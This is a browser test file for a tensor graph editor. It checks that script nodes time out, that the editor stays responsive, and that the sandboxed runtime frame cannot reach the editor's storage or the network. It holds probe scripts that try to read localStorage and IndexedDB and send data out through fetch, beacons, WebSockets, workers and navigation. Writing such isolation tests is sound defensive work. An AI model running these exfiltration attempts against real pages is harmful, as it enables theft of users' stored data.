/**
 * Script nodes that misbehave: a body that never yields, a promise that never settles, and a body
 * that tries to reach the editor's storage and the network. The editor must stay responsive, the
 * other nodes keep their values, and nothing leaves the sandboxed runtime frame.
 */
import type { BrowserContext, Page, Request } from 'playwright-core';
import { expect, test } from 'vitest';
import { openApp, runtimeFrame, waitForRuntimeFrame } from './support/browser';
import { canvasNode, readValues, selectNode, sidePanel, waitFor, waitForStatus, waitForValues } from './support/editor';
import {
  edge,
  framesDrawnIn,
  frameAnswers,
  graphFile,
  nodeMessage,
  nodePreview,
  openGraphFile,
  panCanvas,
  placeholder,
  previewNumbers,
  setCodeAttr,
  trustAndRun,
  trustBanner,
  viewportTransform,
  waitForNodeMessage,
} from './support/scripts';

const X = [1, 2, 3];
const SIN = X.map(Math.sin);
const NOT_TRUSTED = 'not run: this graph is not trusted yet';

/** x → sin, and independent of that chain, x → <script> → after (Neg). */
function scriptBesideChain(script: { id: string; body: string; timeoutMs: number }) {
  return graphFile(
    [
      placeholder('x', X, { x: 0, y: 0 }),
      { id: 'sin', op: 'Sin', name: 'sin', attrs: {}, position: { x: 260, y: -80 } },
      {
        id: script.id,
        op: 'TensorScript',
        name: script.id,
        attrs: {
          inputs: [{ name: 'x', dtype: 'float32', shape: [3] }],
          outputs: [{ name: 'y', dtype: 'float32', shape: [3] }],
          body: script.body,
          timeout_ms: script.timeoutMs,
        },
        position: { x: 260, y: 120 },
      },
      { id: 'after', op: 'Neg', name: 'after', attrs: {}, position: { x: 540, y: 120 } },
    ],
    [edge('x', 'output', 'sin', 'x'), edge('x', 'output', script.id, 'x'), edge(script.id, 'y', 'after', 'x')],
  );
}

async function runaway(backend: 'cpu' | 'webgpu'): Promise<void> {
  const app = await openApp({ webgpu: backend === 'webgpu' });
  const { page } = app;
  // SwiftShader's sine, under WebGPU, is good to about 5e-5.
  const tolerance = backend === 'webgpu' ? 1e-4 : 1e-5;
  try {
    const timeoutMs = 3000;
    await openGraphFile(page, 'runaway.json', scriptBesideChain({ id: 'spin', body: 'while (true) {}', timeoutMs }));
    await trustBanner(page).waitFor();
    // Untrusted, the script does not run, but the op chain does.
    await waitForNodeMessage(page, 'TensorScript', 'spin', NOT_TRUSTED);
    await waitForNodeMessage(page, 'Neg', 'after', 'skipped because spin failed');
    await waitFor(
      async () => previewNumbers(await nodePreview(page, 'Sin', 'sin')),
      (v) => v.length === 3 && v.every((x, i) => Math.abs(x - SIN[i]!) < 1e-3),
      { what: 'sin to show its values before the script is trusted' },
    );

    const stuck = runtimeFrame(page);
    expect(await frameAnswers(stuck, 2_000)).toBe(true);
    const trustedAt = Date.now();
    await trustAndRun(page);
    // The runtime frame stops answering once the body spins.
    await waitFor(
      () => frameAnswers(stuck),
      (answers) => !answers,
      { timeout: 10_000, interval: 50, what: 'the runtime frame to be stuck in the script' },
    );
    const spinningAt = Date.now();

    // Meanwhile the editor pans and draws: the spin holds only the runtime frame.
    const before = await viewportTransform(page);
    await panCanvas(page, 120, 60);
    const after = await viewportTransform(page);
    const frames = await framesDrawnIn(page, 500);
    expect(after).not.toBe(before);
    expect(frames).toBeGreaterThan(5);
    // All of that happened while the script was still spinning (the watchdog had not yet replaced the frame).
    expect(stuck.isDetached()).toBe(false);
    expect(await frameAnswers(stuck)).toBe(false);
    const pannedAt = Date.now();

    await waitForNodeMessage(page, 'TensorScript', 'spin', `timed out after ${timeoutMs} ms`, 20_000);
    const timedOutAt = Date.now();
    await waitForNodeMessage(page, 'Neg', 'after', 'skipped because spin failed');
    const fresh = await waitForRuntimeFrame(page, { except: stuck });
    expect(await frameAnswers(fresh, 5_000)).toBe(true);
    // The status bar says what happened.
    await waitFor(
      () => page.getByRole('alert', { name: 'Notice' }).innerText(),
      (text) => text.includes(`spin timed out after ${timeoutMs} ms`),
      { what: 'the notice to tell of the timeout' },
    );
    await selectNode(page, 'Sin', 'sin');
    await waitForValues(sidePanel(page), 'sin.y', SIN, { tolerance });
    await selectNode(page, 'Placeholder', 'x');
    await waitForValues(sidePanel(page), 'x.output', X);
    // The new frame runs on the backend the stuck one had.
    expect(await waitForStatus(page, /^Backend: /)).toMatch(new RegExp(`^Backend: ${backend}`));
    console.log(
      `[runaway on ${backend}] stuck ${spinningAt - trustedAt} ms after trust; panned (${before} → ${after}, ${frames} frames ` +
        `in 500 ms) by ${pannedAt - trustedAt} ms; timed out after ${timedOutAt - trustedAt} ms`,
    );

    // A timeout makes the graph untrusted again; an edit and another trust run the script normally.
    await trustBanner(page).waitFor();
    await selectNode(page, 'TensorScript', 'spin');
    await setCodeAttr(page, 'body', 'return x;');
    await waitForNodeMessage(page, 'TensorScript', 'spin', NOT_TRUSTED);
    await trustAndRun(page);
    await waitForValues(sidePanel(page), 'spin.y', X);
    expect(await nodeMessage(page, 'TensorScript', 'spin')).toBe('');
    await selectNode(page, 'Neg', 'after');
    await waitForValues(
      sidePanel(page),
      'after.y',
      X.map((v) => -v),
    );
    await selectNode(page, 'Sin', 'sin');
    await waitForValues(sidePanel(page), 'sin.y', SIN, { tolerance });
    expect(await canvasNode(page, 'Neg', 'after').getAttribute('class')).not.toContain('status-error');

    expect(app.consoleErrors).toEqual([]);
  } finally {
    await app.close();
  }
}

test(
  'a script that never yields times out; the editor stays responsive and the other nodes keep their values',
  () => runaway('cpu'),
  120_000,
);

test('on WebGPU too, the runtime frame that replaces a stuck one computes', () => runaway('webgpu'), 120_000);

test('a promise that never settles times out on its own deadline; the other nodes keep their values', async () => {
  const app = await openApp();
  const { page } = app;
  try {
    const timeoutMs = 1000;
    await openGraphFile(
      page,
      'never-settles.json',
      scriptBesideChain({ id: 'pending', body: 'return new Promise(() => {});', timeoutMs }),
    );
    await trustBanner(page).waitFor();
    await waitForNodeMessage(page, 'TensorScript', 'pending', NOT_TRUSTED);
    const frame = runtimeFrame(page);
    await trustAndRun(page);
    await waitForNodeMessage(page, 'TensorScript', 'pending', `timed out after ${timeoutMs} ms`, 20_000);
    await waitForNodeMessage(page, 'Neg', 'after', 'skipped because pending failed');
    await selectNode(page, 'Sin', 'sin');
    await waitForValues(sidePanel(page), 'sin.y', SIN);
    await selectNode(page, 'Placeholder', 'x');
    await waitForValues(sidePanel(page), 'x.output', X);
    // The body's own deadline stopped it: the runtime frame was not replaced, and the graph stays trusted.
    expect(frame.isDetached()).toBe(false);
    expect(runtimeFrame(page)).toBe(frame);
    expect(await trustBanner(page).count()).toBe(0);
    expect(app.consoleErrors).toEqual([]);
  } finally {
    await app.close();
  }
}, 120_000);

// -- isolation ---------------------------------------------------------------------------------

/**
 * What the script tries, in the order of its flags (1: it got through, 0: it was refused). The flag
 * of sendBeacon only says that the browser queued the beacon, which Chromium does before its CSP
 * check: there, as for every attempt, what reached the network decides.
 */
const ATTEMPTS: readonly { name: string; flag: 'got through' | 'queued' }[] = [
  { name: 'localStorage write', flag: 'got through' },
  { name: "localStorage read of the editor's key", flag: 'got through' },
  { name: "the editor page's localStorage through window.parent", flag: 'got through' },
  { name: "IndexedDB: the editor's autosave", flag: 'got through' },
  { name: 'fetch of a relative URL', flag: 'got through' },
  { name: 'fetch of an absolute URL on the app origin', flag: 'got through' },
  { name: 'XMLHttpRequest', flag: 'got through' },
  { name: 'navigator.sendBeacon', flag: 'queued' },
  { name: 'WebSocket', flag: 'got through' },
  { name: 'an image', flag: 'got through' },
  { name: 'dynamic import()', flag: 'got through' },
  { name: 'a <script src> element', flag: 'got through' },
  { name: 'a <link rel=modulepreload>', flag: 'got through' },
  { name: 'a <link rel=prefetch>', flag: 'got through' },
  { name: 'a Worker', flag: 'got through' },
];

/**
 * A TensorScript body that tries each of ATTEMPTS against the editor's storage and the app's own
 * server, and returns an int32 flag per attempt. Every URL carries `probe=<token>-<attempt>`.
 */
function isolationBody(base: string, token: string): string {
  const url = (name: string) => JSON.stringify(`${base}examples/log.json?probe=${token}-${name}`);
  const ws = JSON.stringify(`${base.replace(/^http/, 'ws')}?probe=${token}-websocket`);
  return `// Tries to reach the editor's storage and the network. Flags: 1 got through, 0 refused.
const flags: number[] = [];
const noAnswer = (ms: number) => new Promise((_, reject) => setTimeout(() => reject(new Error('no answer')), ms));
async function attempt(run: () => unknown) {
  try {
    flags.push((await Promise.race([run(), noAnswer(2000)])) === true ? 1 : 0);
  } catch {
    flags.push(0);
  }
}
const loads = (element: HTMLElement & { onload: unknown; onerror: unknown }) =>
  new Promise((resolve, reject) => {
    element.onload = () => resolve(true);
    element.onerror = () => reject(new Error('not loaded'));
    document.head.append(element);
  });
const link = (rel: string, href: string) => Object.assign(document.createElement('link'), { rel, href });
await attempt(() => {
  localStorage.setItem('tensorloom-pwned', '1');
  return localStorage.getItem('tensorloom-pwned') === '1';
});
await attempt(() => localStorage.getItem('tensorloom:session-running') !== null);
await attempt(() => window.parent.localStorage.getItem('tensorloom:session-running') !== null);
await attempt(
  () =>
    new Promise((resolve, reject) => {
      const open = indexedDB.open('keyval-store');
      open.onerror = () => reject(open.error);
      open.onsuccess = () => {
        const store = open.result.transaction('keyval', 'readwrite').objectStore('keyval');
        store.put('1', 'tensorloom-pwned');
        const read = store.get('tensorloom:autosave');
        read.onerror = () => reject(read.error);
        read.onsuccess = () => resolve(read.result !== undefined);
      };
    }),
);
await attempt(async () => (await fetch('examples/log.json?probe=${token}-relative'), true));
await attempt(async () => (await fetch(${url('absolute')}), true));
await attempt(
  () =>
    new Promise((resolve, reject) => {
      const xhr = new XMLHttpRequest();
      xhr.open('GET', ${url('xhr')});
      xhr.onload = () => resolve(true);
      xhr.onerror = () => reject(new Error('xhr failed'));
      xhr.send();
    }),
);
await attempt(() => navigator.sendBeacon(${url('beacon')}, 'pwned'));
await attempt(
  () =>
    new Promise((resolve, reject) => {
      const socket = new WebSocket(${ws});
      socket.onopen = () => resolve(true);
      socket.onerror = () => reject(new Error('socket failed'));
    }),
);
await attempt(() => loads(Object.assign(new Image(), { src: ${url('image')} })));
await attempt(async () => (await import(${url('import')}), true));
await attempt(() => loads(Object.assign(document.createElement('script'), { src: ${url('script')} })));
await attempt(() => loads(link('modulepreload', ${url('modulepreload')})));
await attempt(() => loads(link('prefetch', ${url('prefetch')})));
await attempt(
  () =>
    new Promise((resolve, reject) => {
      const worker = new Worker(${url('worker')});
      worker.onerror = () => reject(new Error('worker failed'));
      worker.onmessage = () => resolve(true);
    }),
);
return tf.tensor1d(flags, 'int32');`;
}

/** The editor's localStorage, as a sorted list of [key, value]. */
function localStorageEntries(page: Page): Promise<[string, string][]> {
  return page.evaluate(() =>
    Object.keys(localStorage)
      .sort()
      .map((k): [string, string] => [k, localStorage.getItem(k) ?? '']),
  );
}

/** The editor origin's IndexedDB databases, and every key and value of idb-keyval's store. */
function indexedDbContent(page: Page) {
  return page.evaluate(async () => {
    const databases = (await indexedDB.databases()).map((d) => d.name ?? '').sort();
    if (!databases.includes('keyval-store')) return { databases, entries: [] as [string, unknown][] };
    const entries = await new Promise<[string, unknown][]>((resolve, reject) => {
      const open = indexedDB.open('keyval-store');
      open.onerror = () => reject(open.error);
      open.onsuccess = () => {
        const db = open.result;
        const store = db.transaction('keyval', 'readonly').objectStore('keyval');
        const keys = store.getAllKeys();
        const values = store.getAll();
        values.onerror = () => reject(values.error);
        values.onsuccess = () => {
          db.close();
          resolve(keys.result.map((k, i): [string, unknown] => [String(k), values.result[i]]));
        };
      };
    });
    return { databases, entries };
  });
}

/** Every request of the browser context (page, frames, workers) whose URL contains `token`. */
function watchRequests(context: BrowserContext, token: string): Request[] {
  const seen: Request[] = [];
  context.on('request', (request) => {
    if (request.url().includes(token)) seen.push(request);
  });
  return seen;
}

/**
 * The requests that went out to the network. Chromium reports some requests that its CSP then
 * refused before sending them (failure "csp", no response); any other outcome (a response, or a
 * failure that happens after sending, such as ORB) means the server was reached.
 */
async function sent(requests: readonly Request[]): Promise<string[]> {
  const out: string[] = [];
  for (const request of requests) {
    const response = await request.response().catch(() => null);
    const failure = request.failure()?.errorText;
    if (response || failure !== 'csp') {
      out.push(`${request.resourceType()} ${request.url()}: ${response ? `HTTP ${response.status()}` : failure}`);
    }
  }
  return out;
}

/** A console error of a CSP refusal of a URL that carries `token`: what a refused attempt leaves. */
function isCspRefusal(message: string, token: string): boolean {
  return (
    message.includes(token) &&
    /violates the following Content Security Policy directive|Refused to connect because it violates the document's Content Security Policy/.test(
      message,
    )
  );
}

test('a trusted script cannot reach the editor storage or the network', async () => {
  const app = await openApp();
  const { page, context } = app;
  try {
    const token = `probe${Date.now()}`;
    const requests = watchRequests(context, token);
    const storageAtStart = await localStorageEntries(page);
    await openGraphFile(
      page,
      'isolation.json',
      graphFile(
        [
          {
            id: 'probe',
            op: 'TensorScript',
            name: 'probe',
            attrs: {
              inputs: [],
              outputs: [{ name: 'flags', dtype: 'int32', shape: [ATTEMPTS.length] }],
              body: isolationBody(app.baseUrl, token),
              timeout_ms: 60_000,
            },
            position: { x: 0, y: 0 },
          },
        ],
        [],
      ),
    );
    await trustBanner(page).waitFor();
    await waitForNodeMessage(page, 'TensorScript', 'probe', NOT_TRUSTED);
    // The autosave follows an edit after 400 ms: let it write the opened graph before taking stock.
    await page.waitForTimeout(1_500);
    const storageBefore = await localStorageEntries(page);
    expect(storageBefore).toEqual(storageAtStart);
    const dbBefore = await indexedDbContent(page);
    expect(storageBefore.map(([k]) => k)).toContain('tensorloom:session-running');
    expect(dbBefore.entries.map(([k]) => k)).toEqual(['tensorloom:autosave']);
    expect(requests.map((r) => r.url())).toEqual([]);

    await trustAndRun(page);
    await waitFor(
      () => nodePreview(page, 'TensorScript', 'probe'),
      (shown) => shown !== '',
      { timeout: 60_000, what: 'the probe script to return its flags' },
    );
    await selectNode(page, 'TensorScript', 'probe');
    const flags = await readValues(sidePanel(page), 'probe.flags');
    console.log(`[isolation] flags: ${ATTEMPTS.map((a, i) => `${a.name}: ${flags[i]}`).join('; ')}`);
    expect(flags).toHaveLength(ATTEMPTS.length);
    const gotThrough = ATTEMPTS.filter((a, i) => a.flag === 'got through' && flags[i] !== 0).map((a) => a.name);
    expect(gotThrough, 'attempts that got through').toEqual([]);

    // Requests the script started have long been refused or answered; none may have gone out.
    await page.waitForTimeout(500);
    expect(await sent(requests), 'requests that reached the server').toEqual([]);
    // The watch sees requests of the page and of its frames: a fetch from the page shows up, and so
    // does the runtime frame's own page.
    await page.evaluate(
      (url) => fetch(url).then((r) => r.text()),
      `${app.baseUrl}examples/log.json?probe=${token}-page`,
    );
    await waitFor(
      async () => (await sent(requests)).length,
      (n) => n === 1,
      { timeout: 5_000, what: "the page's own probe request to be seen" },
    );
    expect(await sent(requests)).toEqual([`fetch ${app.baseUrl}examples/log.json?probe=${token}-page: HTTP 200`]);

    expect(await localStorageEntries(page)).toEqual(storageBefore);
    const dbAfter = await indexedDbContent(page);
    expect(dbAfter.databases).toEqual(dbBefore.databases);
    expect(dbAfter.entries.map(([k]) => k)).toEqual(['tensorloom:autosave']);
    const text = (entries: [string, unknown][]) => (entries[0]![1] as { text: string }).text;
    expect(text(dbAfter.entries)).toBe(text(dbBefore.entries));

    // The attempts the CSP refused say so in the console; nothing else went wrong.
    expect(app.consoleErrors.filter((e) => !isCspRefusal(e, token))).toEqual([]);
  } finally {
    await app.close();
  }
}, 120_000);

test('a trusted script cannot send its data anywhere by navigating the runtime frame', async () => {
  const app = await openApp();
  const { page, context } = app;
  try {
    const token = `nav${Date.now()}`;
    const requests = watchRequests(context, token);
    // Another origin (localhost rather than 127.0.0.1) served by the same server, so that a leak would show.
    const elsewhere = app.baseUrl.replace('127.0.0.1', 'localhost');
    expect(elsewhere).not.toBe(app.baseUrl);
    const target = `${elsewhere}examples/log.json?probe=${token}-navigate&data=`;
    await openGraphFile(
      page,
      'navigate.json',
      graphFile(
        [
          placeholder('x', X),
          {
            id: 'leak',
            op: 'TensorScript',
            name: 'leak',
            attrs: {
              inputs: [{ name: 'x', dtype: 'float32', shape: [3] }],
              outputs: [{ name: 'y', dtype: 'float32', shape: [3] }],
              body: `location.href = ${JSON.stringify(target)} + Array.from(await x.data()).join(',');\nreturn x;`,
            },
            position: { x: 260, y: 0 },
          },
        ],
        [edge('x', 'output', 'leak', 'x')],
      ),
    );
    await trustBanner(page).waitFor();
    await waitForNodeMessage(page, 'TensorScript', 'leak', NOT_TRUSTED);
    await trustAndRun(page);
    // Chromium names only the origin of a refused cross-origin frame: "Framing 'http://localhost:…/' violates…".
    const refused = (e: string) =>
      e.includes(elsewhere) && /violates the following Content Security Policy directive: "frame-src /.test(e);
    // The navigation is either refused (the console says so) or goes out (the request shows).
    await waitFor(
      async () => app.consoleErrors.filter(refused).length + requests.length,
      (n) => n > 0,
      { timeout: 30_000, what: "the runtime frame's navigation to be refused or sent" },
    );
    await page.waitForTimeout(500);
    expect(await sent(requests), 'requests that reached a server').toEqual([]);
    expect(app.consoleErrors.filter(refused)).not.toEqual([]);

    // The refused navigation left an error page in the frame: the editor replaces it, and the
    // graph's scripts wait for trust again; the rest of the graph runs in the new frame.
    await waitFor(
      () => page.getByRole('alert', { name: 'Notice' }).innerText(),
      (text) => text.includes('a script navigated the runtime frame away'),
      { what: 'the notice to tell that the runtime was restarted' },
    );
    await trustBanner(page).waitFor();
    await waitForNodeMessage(page, 'TensorScript', 'leak', NOT_TRUSTED);
    expect(await frameAnswers(await waitForRuntimeFrame(page), 5_000)).toBe(true);
    await selectNode(page, 'Placeholder', 'x');
    await waitForValues(sidePanel(page), 'x.output', X);
    expect(await waitForStatus(page, /^Backend: /)).toMatch(/eager run/);
    expect(app.consoleErrors.filter((e) => !refused(e))).toEqual([]);
  } finally {
    await app.close();
  }
}, 120_000);
